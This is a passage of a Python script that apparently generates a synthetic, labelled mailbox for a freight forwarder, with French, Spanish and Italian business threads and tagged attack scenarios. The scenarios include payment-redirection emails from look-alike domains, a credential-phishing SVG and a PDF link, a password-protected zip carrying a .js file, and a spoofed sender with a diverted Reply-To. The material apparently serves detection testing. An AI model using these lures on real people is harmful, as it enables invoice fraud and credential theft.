# 3: the client's certified counter-proposal (labelled), replying to the Legalmail envelope of Giulia's answer
t_c = at(2025, 3, 7, 11, 42)
s_c = "R: " + S5
note_l = (f"--Questo è un Messaggio di Posta Certificata--\n\nIl giorno 04/03/2025 alle ore {t_b:%H:%M:%S} (+0100) il messaggio\n\"{s_b}\" è stato inviato da "
          f"\"{mepec.email}\"\nindirizzato a:\n{APU}\nIl messaggio originale è incluso in allegato.\nIdentificativo messaggio: {l_id1[1:-1]}")
m_in2, raw_in2, _ = build(apuane_pec, "ol16", t_c, [("", mepec.email)], None, s_c, [env1, l_id1],
                          "Spett.le Lanterna Spedizioni,\n\npreso atto dell'EIR trasmesso, riconosciamo che il vuoto era disponibile dal 06/01. Riteniamo "
                          "tuttavia che parte del ritardo sia dovuta alla chiusura del terminal per sciopero il 17 e 18/01. Proponiamo pertanto di "
                          "riconoscere 9 giorni anziché 11, per un importo di EUR 1.260,00, chiudendo così la contestazione.\nIn attesa di Vostro cortese "
                          "riscontro." + apuane_pec.sig + "\n\n-----Messaggio originale-----\nDa: Per conto di: lanterna.spedizioni@legalmail.it "
                          "[mailto:posta-certificata@legalmail.it]\nInviato: martedì 4 marzo 2025 15:22\nA: " + APU + "\nOggetto: POSTA CERTIFICATA: " + s_b
                          + "\n\n" + note_l, infra="own")
env2 = opec("aruba", t_c + datetime.timedelta(seconds=5))
pec_message("posta-certificata", "aruba", t_c + datetime.timedelta(seconds=5), s_c, APU, mepec.email, m_in2, env2, raw_in2, GH,
            ("G1", "T5: certified reply 'POSTA CERTIFICATA: R: ...' from posta-certificata@pec.aruba.it 'Per conto di:', original in postacert.eml"))
# 4: Giulia accepts (context) + receipts
t_d = at(2025, 3, 10, 9, 31)
s_d = "R: POSTA CERTIFICATA: " + s_c
m_out2 = emit(mepec, "ol16", t_d, [("", APU)], None, s_d, [env1, l_id1, env2],
              "Spett.le Ceramiche Apuane S.p.A.,\n\nverificato con la compagnia che il 17 e 18/01 il terminal SECH ha effettivamente sospeso le riconsegne "
              "per sciopero, accettiamo la Vostra proposta. Emetteremo nota di credito di EUR 280,00 a parziale storno della fattura 25/0311.\n\n"
              "Distinti saluti\n\n" + ME_FOOT)
l_id2 = opec("legalmail", t_d + datetime.timedelta(seconds=5))
pec_message("accettazione", "legalmail", t_d + datetime.timedelta(seconds=5), s_d, mepec.email, APU, m_out2, l_id2)
pec_message("avvenuta-consegna", "aruba", t_d + datetime.timedelta(seconds=21), s_d, mepec.email, APU, m_out2, l_id2,
            [p for p in pending if p[3] is None and m_out2 in p[2] and p[1] == "Sent"][0][2])

# ================================================================ T6 Sophie (M365 FR): 8-message groupage thread; A4 account takeover on the 1st message
t6 = Thread(sophie, "Groupage Gênes – Lyon semaine 10 : enlèvement 6 + 4 palettes", "fr", "T6")
t6.add(me, "Bonjour Sophie,\n\nnous aurions un groupage pour la semaine 10 :\n- 6 palettes 80x120 pour Moreau Négoce, Lyon 7e (huile d'olive et pâtes, 3.120 kg)\n"
       "- 4 palettes 100x120 pour Bio Saveurs, Villeurbanne (conserves, 1.980 kg)\nMarchandise prête dans notre entrepôt de Campi à partir du jeudi 27/02. "
       "Pourriez-vous me confirmer la disponibilité et le tarif ?", at(2025, 2, 24, 9, 38))
t6.add(sophie, "Bonjour Giulia,\n\noui, nous avons un semi bâché qui remonte de Gênes jeudi. Enlèvement possible le 27 à partir de 14h, livraison Lyon et "
       "Villeurbanne vendredi 28 dans la matinée.\nTarif : 1.150 EUR HT pour les deux livraisons, hayon compris, gazole indexé sur le barème CNR de février.",
       at(2025, 2, 24, 11, 6, PAR), G)
t6.add(me, "Bonjour Sophie,\n\nc'est d'accord pour jeudi 14h. Vous trouverez en pièce jointe les données pour la CMR : expéditeur Lanterna Spedizioni pour le "
       "compte d'Oleificio Marchi et du Pastificio Val Bormida, adresses de livraison et poids par palette.", at(2025, 2, 25, 9, 12),
       atts=[att("Donnees_CMR_semaine10.pdf", pdf(["Groupage S10 - donnees CMR", "Moreau Negoce 6 pal. 3.120 kg", "Bio Saveurs 4 pal. 1.980 kg"]))])
t6.add(sophie, "Merci. Est-ce que Moreau peut recevoir un porteur de 19 t ou seulement un VL ? La dernière fois le chauffeur a attendu une heure : la rue "
       "était barrée pour travaux.", at(2025, 2, 25, 14, 50, PAR), G)
t6.add(me, "J'ai vérifié avec M. Moreau : les travaux rue de Gerland sont terminés, un 19 t passe sans problème. Réception de 7h à 12h, prévenir une heure avant.",
       at(2025, 2, 26, 8, 55))
t6.add(sophie, "Giulia,\n\nenlèvement fait à 15h10, chauffeur Karim, camion GH-418-PT. 10 palettes chargées, aucune réserve au chargement. Livraisons demain matin.",
       at(2025, 2, 27, 17, 20, PAR), G)
t6.add(me, "Bonjour Sophie,\n\nM. Moreau a bien été livré, mais une palette de bidons d'huile est arrivée avec le film déchiré et deux bidons cabossés. Il a "
       "porté des réserves sur la CMR. Pouvez-vous vérifier de votre côté ?", at(2025, 2, 28, 15, 30))
t6.add(sophie, "Bien noté. Le chauffeur confirme que la palette a glissé lors d'un freinage sur l'A43. J'ouvre un dossier litige chez notre assureur et je "
       "vous tiens au courant.", at(2025, 2, 28, 17, 45, PAR), G)
a4_link = "https://www.ferme-des-oliviers.example/fr/wp-content/facture/consulter.php?doc=TD250311"
t6.add(sophie, "Bonjour Giulia,\n\nje reviens vers vous au sujet du groupage de la semaine 10. Suite à la révision du barème gazole, la facture a été "
       "corrigée : vous la trouverez en pièce jointe, il suffit de cliquer sur « Consulter la facture » pour l'afficher.", at(2025, 3, 11, 7, 14, PAR),
       HJ("account-takeover"), ("A4", "T6: Sophie's real M365 mailbox used over SMTP AUTH from a foreign IP with Thunderbird (Date +0300), answering the "
                                 "1st message of an 8-message thread, PDF with one link button"),
       client="tb", ui="en", q=t6.recs[0], refs=t6.refs[:1], keep=False, variant="smtp-auth", date_t=at(2025, 3, 11, 7, 14, PAR).astimezone(TZ3),
       atts=[att("Facture_TD-25-0311_rectificative.pdf", pdf(["TRANSPORTS DUBOIS SAS", "Facture rectificative TD-25-0311",
                                                              "Document securise - cliquez sur le bouton ci-dessous", "", "[ Consulter la facture ]"], uris=[a4_link],
                                                             producer="Skia/PDF m131"))])

# ================================================================ T7 Sophie: invoice; A7 TLD-swap look-alike with new IBAN (Lithuania) and new Cc
t7 = Thread(sophie, "Facture TD-25-0311 – transport Gênes/Lyon semaine 10", "fr", "T7")
t7.add(sophie, "Bonjour Giulia,\n\nveuillez trouver ci-joint notre facture TD-25-0311 pour le groupage de la semaine 10 : 1.150,00 EUR HT + indexation "
       "gazole 27,60 EUR, soit 1.177,60 EUR (autoliquidation de TVA). Règlement à 30 jours fin de mois par virement sur notre compte Société Générale, "
       "IBAN FR76 3000 3015 2000 0205 0123 456 (RIB en pied de facture).", at(2025, 3, 4, 10, 2, PAR),
       atts=[att("TD-25-0311.pdf", pdf(["Transports Dubois SAS", "Facture TD-25-0311", "Total 1.177,60 EUR", "IBAN FR7630003015200002050123456"]))])
t7.add(me, "Bonjour Sophie,\n\nmerci, facture validée. Le paiement est prévu le 30/04.", at(2025, 3, 4, 11, 30))
t7.add(sophie, "Parfait, merci Giulia. Pour le litige Moreau, l'expert de l'assureur passe jeudi à Lyon.", at(2025, 3, 4, 11, 52, PAR), G)
t7.add(lk_dubois, "Bonjour Giulia,\n\nsuite à un audit interne, notre service comptable centralise désormais les encaissements européens sur le compte de "
       "notre filiale de paiement. Merci de régler la facture TD-25-0311, ainsi que les suivantes, sur les coordonnées ci-dessous :\n"
       "Titulaire : Transports Dubois SAS\nBanque : Paysera LT, UAB\nIBAN : LT42 3500 0100 1234 5678\nBIC : EVIULT2VXXX\n"
       "L'ancien compte Société Générale ne doit plus être utilisé. Je mets en copie notre comptabilité, qui vous enverra le RIB signé. "
       "Pourriez-vous me confirmer la date du virement ?", at(2025, 3, 19, 14, 22, PAR), HJ("lookalike-domain"),
       ("A7", "T7: TLD-swap look-alike (transports-dubois.test), quotes the real thread, new IBAN in Lithuania, new Cc 'comptabilité' on the look-alike"),
       q=t7.recs[1], refs=t7.refs[:2], keep=False, cc=[("Comptabilité Transports Dubois", "comptabilite@transports-dubois.test")])

# ================================================================ T8 Sophie: T1 transit; auto-reply; reply-all adding the broker; broker answers
t8 = Thread(sophie, "Conteneur MEDU 902114-6 ex Radès – transit T1 Fos > Gênes", "fr", "T8")
t8.add(me, "Bonjour Sophie,\n\nle conteneur MEDU 902114-6 (ex Radès, navire MSC Ilona) est arrivé à Fos hier. Notre client voudrait le faire venir sous T1 "
       "jusqu'à Gênes pour le dédouanement chez nous. Pouvez-vous organiser l'émission du T1 et le transport routier ? Bureau de destination : "
       "Genova 1 (IT261100).", at(2025, 3, 12, 9, 20))
t8.add(sophie, "Bonjour,\n\nJe suis absente du 10 au 14 mars inclus, avec un accès limité à ma messagerie. Pour toute demande urgente concernant "
       "l'exploitation, merci d'écrire à exploitation@transports-dubois.example ou d'appeler le +33 4 42 55 51 00.\n\nCordialement,\nSophie Martin",
       at(2025, 3, 12, 9, 20, PAR), GH, ("G4", "T8: Outlook FR 'Réponse automatique :' absence notice (Auto-Submitted: auto-replied)"),
       sig=False, quote=False, keep=False, subj="Réponse automatique : Conteneur MEDU 902114-6 ex Radès – transit T1 Fos > Gênes",
       extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", sophie.email)])
t8.add(sophie, "Bonjour Giulia,\n\nde retour ce matin, désolée pour le délai. Pour le T1, je mets en copie Hugo Delmas, du cabinet Delmas Douane, notre "
       "commissionnaire à Fos : il émettra le document dès la mainlevée. Hugo, peux-tu voir avec Giulia pour la garantie et les données de la "
       "marchandise ? Côté transport, nous pouvons charger jeudi.", at(2025, 3, 17, 8, 45, PAR), GH,
       ("G11", "T8: reply-all that adds the French customs broker in Cc"), cc=[(delmas.name, delmas.email)])
t8.add(me, "Bonjour Sophie, bonjour Monsieur Delmas,\n\nmerci. Voici les informations : 1.240 cartons de dattes Deglet Nour, code SH 0804 10 00, poids "
       "brut 19.850 kg, valeur 46.300 EUR (facture et B/L en pièces jointes). Pour la garantie, nous disposons d'une caution globale transit, "
       "référence IT26GRN0000518.", at(2025, 3, 17, 10, 30), cc=[(delmas.name, delmas.email)],
       atts=[att("Invoice_DN-2025-044.pdf", pdf(["Société des Dattes du Djerid", "Invoice DN-2025-044", "1,240 cartons Deglet Nour - EUR 46,300"])),
             att("BL_MEDUTN2503318.pdf", pdf(["Bill of Lading MEDUTN2503318", "MEDU 902114-6", "Rades - Fos-sur-Mer"]))])
t8.add(delmas, "Bonjour Madame Ferraro,\n\nmerci pour les documents. La mainlevée a été donnée à 13h40. Si vous êtes principal obligé avec votre propre "
       "garantie, il me faut une procuration signée pour émettre le T1 en votre nom (modèle joint). Sinon, nous pouvons l'émettre sous notre garantie "
       "moyennant 35 EUR.", at(2025, 3, 17, 14, 5, PAR), GH, ("G25", "T8: the customs broker added in Cc answers for the first time (his own M365 tenant)"),
       cc=[(sophie.name, sophie.email)], atts=[att("Procuration_T1_modele.pdf", pdf(["Cabinet Delmas Douane", "Procuration - transit T1"]))])
t8.add(me, "Monsieur Delmas,\n\nle plus simple est sous votre garantie, merci. Je valide les 35 EUR.", at(2025, 3, 17, 16, 0),
       to=[(delmas.name, delmas.email)], cc=[(sophie.name, sophie.email)])
t8.add(sophie, "T1 émis ce matin (MRN 25FR000130004412T3), chargement jeudi matin, livraison au terminal de Gênes vendredi.", at(2025, 3, 18, 9, 12, PAR), G,
       cc=[(delmas.name, delmas.email)])

# G12 orphan: Outlook FR forward of a forward ("TR : RV:") with a third party's PDF
t_f = at(2025, 3, 19, 11, 30, PAR)
fwd_body = ("Giulia,\n\npour info, voici l'avis d'arrivée que l'agent de la compagnie nous a transmis via Valence (le conteneur y a été transbordé). "
            "Les frais de port à Fos sont à la charge du réceptionnaire, voir page 2.\n\nBonne journée" + sophie.sig +
            "\n\nDe : Javier Ortega <jortega@levante-transitarios.example>\nEnvoyé : mardi 11 mars 2025 18:02\nÀ : Sophie Martin <s.martin@transports-dubois.example>\n"
            "Objet : RV: Aviso de llegada MEDU 902114-6\n\nHola Sophie,\n\nte reenvío el aviso de llegada de la naviera; el contenedor sigue a Fos con el feeder de mañana.\n\n"
            "Un saludo,\nJavier\n\nDe: Tráfico Balear Line [mailto:trafico.vlc@balearline.example]\nEnviado el: martes, 11 de marzo de 2025 16:40\n"
            "Para: jortega@levante-transitarios.example\nAsunto: Aviso de llegada MEDU 902114-6\n\nAdjuntamos aviso de llegada del contenedor de referencia. "
            "Rogamos comprueben los datos del consignatario.\n\nDpto. Tráfico - Balear Line")
emit(sophie, "o365", t_f, [(me.name, me.email)], None, "TR : RV: Aviso de llegada MEDU 902114-6",
     [f"<{hx(24)}@balearline.example>", f"<{hx(4)}01db{hx(4)}${hx(8)}${hx(8)}$@levante-transitarios.example>"], fwd_body, label=GO,
     scen=("G12", "orphan: Outlook FR forward of a forward 'TR : RV:' carrying a Spanish shipping line's arrival notice PDF (parents not in mailbox)"),
     atts=[att("Aviso_llegada_MEDU9021146.pdf", pdf(["BALEAR LINE - AVISO DE LLEGADA", "MEDU 902114-6 / 40HC", "Feeder VLC-FOS"],
                                                   producer="JasperReports Library version 6.20.0"))])

# ================================================================ T9 Moreau (OVH Roundcube FR): order; Italian colleague answers in Italian
t9 = Thread(moreau, "Commande 2025-044 - huile et pâtes - date de livraison", "fr", "T9")
t9.add(moreau, "Bonjour Giulia,\n\nnotre commande 2025-044 chez Oleificio Marchi et le Pastificio Val Bormida est-elle prête ? Nous avons besoin de la "
       "marchandise avant le 1er mars pour une opération en magasin.\n\nMerci d'avance", at(2025, 2, 17, 8, 12, PAR))
t9.add(me, "Bonjour Monsieur Moreau,\n\nles deux fournisseurs livrent notre entrepôt jeudi 20. Nous la mettons dans le groupage de la semaine 10 avec "
       "Transports Dubois : enlèvement le 27, livraison chez vous vendredi 28 au matin. Cela vous convient-il ?", at(2025, 2, 17, 10, 5))
t9.add(moreau, "C'est un peu juste mais ça ira. Pourriez-vous demander au transporteur de nous appeler une heure avant ?", at(2025, 2, 17, 12, 40, PAR), G)
t9.add(me, "Bien sûr, je transmets. Pouvez-vous me rappeler vos horaires de réception et me dire si vous avez un quai ?", at(2025, 2, 18, 9, 0))
t9.add(giorgia, "Buongiorno Giulia,\n\nsono Giorgia Sala, seguo gli acquisti insieme a Jean-Luc, che oggi è in fiera a Parigi. Le scrivo in italiano "
       "visto che è la mia lingua :-) Riceviamo dal lunedì al venerdì dalle 7 alle 12, niente quai: scarichiamo con il transpallet dal retro del camion, "
       "quindi serve la sponda idraulica. Il numero da chiamare prima della consegna è 04 78 55 52 60.\n\nGrazie e buona giornata",
       at(2025, 2, 18, 11, 25, PAR), GH, ("G20", "T9: the consignee's Italian-born colleague (same Roundcube/OVH) answers in Italian inside a French thread"))
t9.add(me, "Grazie Giorgia, perfetto! Giro le informazioni a Transports Dubois (sponda idraulica e preavviso telefonico).", at(2025, 2, 18, 12, 10),
       to=[(giorgia.name, giorgia.email)], cc=[(moreau.name, moreau.email)], sig=my_sig("it"))
t9.add(moreau, "Merci à vous deux. Je vous confirme une commande complémentaire de 40 cartons de pesto, à ajouter si possible au même envoi.",
       at(2025, 2, 19, 8, 30, PAR), G)
t9.add(me, "Je vérifie avec le Pastificio et je reviens vers vous dans la journée.", at(2025, 2, 19, 9, 20))

# ================================================================ T28 Moreau: claim from July 2024 revived after 7 months
t28 = Thread(moreau, "Réclamation - palette endommagée - livraison du 12/07/2024", "fr", "T28")
t28.add(moreau, "Bonjour Giulia,\n\nla livraison de vendredi dernier (groupage 28) est arrivée avec une palette de bocaux de sauce tomate écrasée : 46 bocaux "
        "cassés sur 360. Nous avons porté des réserves sur la CMR. Photos ci-jointes. Comment procède-t-on ?", at(2024, 7, 15, 9, 10, PAR),
        atts=[att("IMG_20240712_101544.jpg", jpg(3500)), att("IMG_20240712_101602.jpg", jpg(3500))])
t28.add(me, "Bonjour Monsieur Moreau,\n\ndésolée pour ce problème. Pour ouvrir le dossier chez l'assureur du transporteur, il me faut la lettre de réserves "
        "confirmées (envoyée au transporteur sous 3 jours), la copie de la CMR annotée et la facture d'achat des bocaux.", at(2024, 7, 15, 11, 40))
t28.add(moreau, "Voici la lettre envoyée hier en recommandé, la CMR et la facture. Valeur des bocaux cassés : 128,80 EUR HT.", at(2024, 7, 17, 16, 5, PAR), G,
        atts=[att("Lettre_reserves_16-07-2024.pdf", pdf(["Moreau Negoce", "Confirmation de reserves - CMR 28/0712"])),
              att("CMR_groupage28.pdf", pdf(["CMR - lettre de voiture internationale", "Reserves: 1 palette ecrasee"], producer="HP Scan"))])
t28.add(me, "Merci, dossier transmis à l'assureur (réf. sinistre 24/RC/03317). Les délais sont en général de deux à trois mois, je vous tiens au courant.",
        at(2024, 7, 18, 10, 15))
t28.add(moreau, "Bonjour Giulia,\n\nje me permets de revenir vers vous sur ce dossier ouvert en juillet : à ce jour nous n'avons reçu ni réponse ni "
        "remboursement pour les 46 bocaux, et notre comptable voudrait clôturer l'exercice. Avez-vous des nouvelles de l'assureur ?",
        at(2025, 2, 20, 8, 47, PAR), GH, ("G13", "T28: claim thread dormant for 7 months revived by the consignee (same Roundcube)"))
t28.add(me, "Bonjour Monsieur Moreau,\n\nvous avez raison, le dossier a traîné. J'ai relancé l'assureur ce matin : l'indemnisation de 128,80 EUR a été "
        "validée le 6 février et sera versée à Lanterna, qui vous la reversera par un avoir sur la prochaine facture. Toutes mes excuses pour l'attente.",
        at(2025, 2, 20, 14, 30))
t28.add(moreau, "Parfait, un avoir nous convient très bien. Merci Giulia.", at(2025, 2, 20, 15, 2, PAR), G)

# ================================================================ T10 Peeters (HCL Notes FR, "Réf. :"): transhipment; A12 hotmail.fr display-name spoof + .svg
t10 = Thread(peeters, "Transbordement Anvers - conteneur FSCU 739105-2 pour Tilbury", "fr", "T10")
t10.add(me, "Bonjour Nathalie,\n\nle conteneur FSCU 739105-2 (tranches de marbre, 24.600 kg) arrive à Anvers le 03/02 avec le MDL Aurora et doit repartir "
        "sur le feeder pour Tilbury. Pouvez-vous confirmer la correspondance et les frais de transbordement ? Le client anglais attend les documents "
        "pour préparer son import.", at(2025, 1, 30, 10, 15))
t10.add(peeters, "Bonjour Giulia,\n\nla correspondance est prévue sur le feeder Nordic Bay, départ 05/02, arrivée Tilbury 06/02. Frais de "
        "transbordement : 185 EUR par conteneur, plus 35 EUR de frais de dossier. Je vous envoie le connaissement feeder dès l'embarquement.",
        at(2025, 1, 30, 15, 40, BRU), G)
t10.add(me, "Merci Nathalie, c'est parfait. Le B/L maritime est joint pour votre dossier.", at(2025, 1, 31, 9, 5),
        atts=[att("BL_MDLGOA2501842.pdf", pdf(["Medlink Container Line", "Bill of Lading MDLGOA2501842", "FSCU 739105-2 - Genoa / Antwerp T/S"]))])
t10.add(peeters, "Giulia,\n\nle conteneur a été chargé ce matin sur le Nordic Bay. Le B/L feeder ANR-55821 est en annexe.", at(2025, 2, 5, 16, 20, BRU), G,
        atts=[att("BL_feeder_ANR-55821.pdf", pdf(["Anvers Maritime Agency NV", "Feeder B/L ANR-55821", "Nordic Bay - Antwerp / Tilbury"]))])
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="480">\n'
       '<rect width="820" height="480" fill="#f4f6f8"/>\n<text x="40" y="80" font-family="Arial" font-size="26">Avis de débarquement - FSCU 739105-2</text>\n'
       '<text x="40" y="130" font-family="Arial" font-size="16">Document en attente de signature électronique</text>\n'
       '<a xlink:href="https://docs-portail-signature.example/anvers/avis.php?ref=FSCU7391052&amp;u=giulia.ferraro"><rect x="40" y="180" width="300" height="54" rx="6" fill="#1565c0"/>'
       '<text x="70" y="214" font-family="Arial" font-size="18" fill="#fff">Ouvrir et signer</text></a>\n</svg>\n')
t10.add(sp_peeters, "Bonjour Giulia,\n\nsuite au chargement à Anvers, l'autorité portuaire demande une confirmation du destinataire final avant la "
        "libération à Tilbury. Je vous joins l'avis de débarquement à signer : merci de l'ouvrir depuis un ordinateur et de valider avec vos "
        "identifiants professionnels.\n\nNathalie", at(2025, 2, 7, 9, 31, BRU), HJ("display-name-spoof"),
        ("A12", "T10: display-name spoof 'Nathalie Peeters' from hotmail.fr (Outlook.com), .svg with a sign-in link"),
        sig=False, q=t10.recs[2], refs=t10.refs[:3], keep=False, atts=[att("Avis_debarquement_FSCU7391052.svg", svg.encode())])

# ================================================================ T11 Peeters: invoice; A8 added-letter look-alike, IBAN in Poland
t11 = Thread(peeters, "Facture ANR-2025-0187 - transbordement FSCU 739105-2", "fr", "T11")
t11.add(peeters, "Bonjour Giulia,\n\nen annexe notre facture ANR-2025-0187 de 220,00 EUR (transbordement et frais de dossier). Paiement à 30 jours sur notre "
        "compte KBC : IBAN BE68 7340 1972 5034, BIC KREDBEBB.", at(2025, 2, 10, 10, 5, BRU),
        atts=[att("ANR-2025-0187.pdf", pdf(["Anvers Maritime Agency NV", "Facture ANR-2025-0187", "Total EUR 220,00", "IBAN BE68734019725034"]))])
t11.add(me, "Merci Nathalie, transmise à la comptabilité.", at(2025, 2, 10, 14, 20))
t11.add(peeters, "Merci Giulia, bonne semaine !", at(2025, 2, 11, 8, 40, BRU), G)
t11.add(lk_anvers, "Bonjour Giulia,\n\nje me permets de revenir vers vous au sujet de la facture ANR-2025-0187. À la suite du changement de notre banque "
        "principale, merci d'effectuer le virement sur notre nouveau compte dédié aux paiements en euros :\nBanque : mBank S.A.\n"
        "IBAN : PL61 1090 1014 0000 0712 1981 2874\nSWIFT : BREXPLPWMBK\nLa lettre officielle vous sera adressée par notre service financier, en copie. "
        "Merci de ne plus utiliser le compte KBC.", at(2025, 2, 20, 10, 12, BRU), HJ("lookalike-domain"),
        ("A8", "T11: added-letter look-alike (anvers-maritimes.example) on Roundcube, quotes the thread, new IBAN in Poland, new Cc"),
        q=t11.recs[1], refs=t11.refs[:2], keep=False, cc=[("Service Financier AMA", "finance@anvers-maritimes.example")])

# ================================================================ T12 Girard (Zimbra FR): refused pallets; zip of photos
t12 = Thread(girard, "Livraison Chambéry refusée - 2 palettes film abîmé", "fr", "T12")
t12.add(girard, "Bonjour,\n\nsur le groupage arrivé ce matin de Gênes, le destinataire (Fromagerie des Bauges) a refusé 2 palettes de pâtes sur 5 : film "
        "déchiré et cartons humides sur le dessus. Elles sont à notre quai. Que fait-on ?", at(2025, 3, 3, 17, 40, PAR))
t12.add(me, "Bonjour Monsieur Girard,\n\nmerci de l'information. Pouvez-vous m'envoyer des photos des deux palettes, étiquettes visibles, pour que je voie "
        "avec l'expéditeur ? Si les cartons intérieurs sont intacts, on peut refilmer et relivrer.", at(2025, 3, 4, 8, 50))
t12.add(girard, "Voici les photos dans un zip (14 photos, c'était trop lourd une par une). Les cartons du dessous sont secs, seule la couche du dessus est marquée.",
        at(2025, 3, 4, 10, 15, PAR), GH, ("G21", "T12: Zimbra partner sends a zip of jpg photos of the refused pallets"),
        atts=[att("Photos_palettes_refusees.zip", zipfile_bytes([(f"IMG_{20250304}_{101000 + i * 37}.jpg", jpg(900)) for i in range(14)]))])
t12.add(me, "Merci. L'expéditeur est d'accord : refilmez et remplacez les 6 cartons abîmés par ceux de la palette de réserve qu'il vous a laissée en dépôt, "
        "puis relivrez. Frais à notre charge.", at(2025, 3, 4, 11, 30))
t12.add(girard, "Relivré ce matin à 9h, accepté sans réserve. Je vous envoie la facture de manutention (refilmage et relivraison : 95 EUR HT).",
        at(2025, 3, 5, 16, 5, PAR), G)

# ================================================================ T13 Ortega (Outlook 2016 ES): booking; iPhone on Saturday
t13 = Thread(ortega, "Reserva VLC-GOA contenedor 40' HC - ETD 14/03 - mármol Macael", "es", "T13")
t13.add(ortega, "Hola Giulia,\n\nte confirmo la reserva para el contenedor de mármol de Macael de vuestro cliente de Carrara: naviera Balear Line, buque "
        "Ciudad de Ibiza, ETD Valencia 14/03, ETA Génova 17/03. Necesito los datos definitivos del consignatario para el conocimiento de embarque "
        "antes del martes.", at(2025, 3, 6, 12, 10, MAD))
t13.add(me, "Hola Javier,\n\ngracias. Consignatario: Marmi Apuani Group S.r.l., Via Aurelia 55, 54033 Carrara (MS), P.IVA IT00555870451. Notify: Lanterna "
        "Spedizioni (nosotros). Flete a pagar en destino, como siempre.", at(2025, 3, 6, 15, 0))
t13.add(ortega, "Te adjunto el borrador del BL para que lo revises. Ojo con el peso: el cliente ha declarado 26.400 kg y el máximo de la naviera para un "
        "40' es 26.500.", at(2025, 3, 7, 10, 40, MAD), G, atts=[att("Borrador_BL_BLVLC25031402.pdf", pdf(["BALEAR LINE", "DRAFT B/L BLVLC25031402"]))])
t13.add(me, "Revisado. Dos correcciones: en la descripción pon \"bloques de mármol blanco Macael, en bruto\" (partida 2515 12) y el precinto es el "
        "BL-778120, no 778210.", at(2025, 3, 7, 17, 35))
t13.add(ortega, "Corregido, el lunes a primera hora te mando el definitivo.\n\nEnviado desde mi iPhone", at(2025, 3, 8, 11, 4, MAD), GH,
        ("G9", "T13: the Valencia agent switches from Outlook 2016 desktop to 'Enviado desde mi iPhone' on a Saturday"), client="iphone", sig=False)
t13.add(me, "Gracias Javier, quedo a la espera del definitivo.", at(2025, 3, 10, 8, 30))
t13.add(ortega, "Aquí lo tienes, ya emitido.", at(2025, 3, 10, 9, 15, MAD), G, atts=[att("BL_BLVLC25031402.pdf", pdf(["BALEAR LINE", "B/L BLVLC25031402 - ORIGINAL"]))])

# ================================================================ T14 Ortega: port charges invoice; A2 server hijack, encrypted zip with password
t14 = Thread(ortega, "Factura 2025/0217 - gastos portuarios Valencia febrero", "es", "T14")
t14.add(ortega, "Hola Giulia,\n\nte adjunto la factura 2025/0217 con los gastos portuarios de febrero en Valencia (THC, tasa T-3 y despacho de exportación "
        "de los dos contenedores de azulejos): 1.486,35 EUR.", at(2025, 2, 27, 13, 20, MAD),
        atts=[att("Factura_2025-0217.pdf", pdf(["Transitarios Levante S.L.", "Factura 2025/0217", "Total 1.486,35 EUR"]))])
t14.add(me, "Hola Javier, gracias. ¿Me puedes desglosar la tasa T-3? El cliente pregunta porque es más alta que en enero.", at(2025, 2, 28, 9, 40))
t14.add(ortega, "Claro: la T-3 ha subido un 4 % desde el 1 de enero por la actualización de la Ley de Puertos y, además, el segundo contenedor pesaba más "
        "de 25 t, así que se aplica el tramo superior.", at(2025, 2, 28, 12, 5, MAD), G)
t14.add(me, "Perfecto, se lo explico al cliente. Gracias.", at(2025, 2, 28, 12, 30))
t14.add(ortega, "Hola Giulia,\n\nen relación con la factura 2025/0217, te mando el desglose completo de la T-3 con los justificantes de la Autoridad "
        "Portuaria en un archivo comprimido. Va protegido por seguridad: la contraseña para abrirlo es fv0217.", at(2025, 3, 21, 18, 47, MAD),
        HJ("server-hijack"), ("A2", "T14: server hijack on the Valencia agent's Outlook 2016/IMAP path, encrypted zip (.js inside), password given in Spanish"),
        keep=False, atts=[att("Desglose_T3_fact_2025-0217.zip", zipfile_bytes([("Desglose_T3_fact_2025-0217.js", b"/*" + rbytes(1800))], encrypted=True))])

# ================================================================ T15 Carmen (Workspace ES): order; A13 forged From + Reply-To to gmail, delivery address change
t15 = Thread(carmen, "Pedido 118/25 - pasta y salsas - documentación y entrega en Santander", "es", "T15")
t15.add(me, "Hola Carmen,\n\nel pedido 118/25 (22 palés de pasta y salsas del Pastificio Val Bormida) sale de nuestro almacén el jueves 6 en camión completo; "
        "la entrega en vuestro almacén de Raos está prevista para el lunes 10 por la mañana. Te adjunto la factura proforma y la lista de bultos.",
        at(2025, 3, 3, 10, 0), atts=[att("Proforma_118-25.pdf", pdf(["Pastificio Val Bormida", "Proforma 118/25"])),
                                     att("Packing_list_118-25.pdf", pdf(["Packing list 118/25", "22 pallets"]))])
t15.add(carmen, "Hola Giulia,\n\ngenial, gracias. El lunes recibimos de 8 a 14 h. ¿Me puedes mandar el CMR en cuanto esté firmado? Lo necesitamos para "
        "contabilidad.", at(2025, 3, 3, 12, 18, MAD), G)
t15.add(me, "Hola Carmen, aquí tienes el CMR firmado por el conductor. Matrícula del camión: GE 281 XT, conductor Andrea Costa.", at(2025, 3, 6, 16, 40),
        atts=[att("CMR_118-25_firmado.pdf", pdf(["CMR 118/25", "Firma conductor"], producer="Canon iR-ADV C3826 PDF"))])
t15.add(carmen, "Recibido todo esta mañana, sin incidencias. ¡Gracias!", at(2025, 3, 10, 13, 5, MAD), G)
t15.add(carmen, "Hola Giulia,\n\nte escribo por el próximo pedido (119/25), que saldrá la semana que viene. Estamos de obras en el almacén de Raos y durante "
        "un mes recibimos la mercancía en un depósito provisional:\nTransportes y Almacenes Norteños, Nave 4, Polígono Industrial de Guarnizo, "
        "39611 Astillero (Cantabria).\nPor favor, cambia la dirección de entrega en el CMR y confírmame la fecha de salida. Contéstame a esta "
        "dirección, que el correo de la empresa me está dando problemas estos días.\n\nGracias,", at(2025, 3, 12, 9, 2, MAD), HJ("display-name-spoof"),
        ("A13", "T15: forged From = the client's real address from a VPS (PHPMailer, SPF softfail, no DKIM), Reply-To diverted to gmail.com, "
                "asks to change the delivery address"), client="phpmailer", infra="vps", keep=False,
        reply_to=f"{ew('Carmen López', 'iso-8859-1', 'Q')} <carmen.lopez.compras@gmail.com>", ui="es", sig=carmen.sig.replace("\n\n", "\n", 1),
        qtext=lambda qb: quote_of(carmen, "gmail", t15.last))

# ================================================================ T16 Souza (M365 PT-BR): pre-alert; late night; A3 server hijack with .js link
t16 = Thread(souza, "Pré-alerta embarque GOA > SSZ - BL MEDUGE2501348 - envasadora", "pt", "T16")
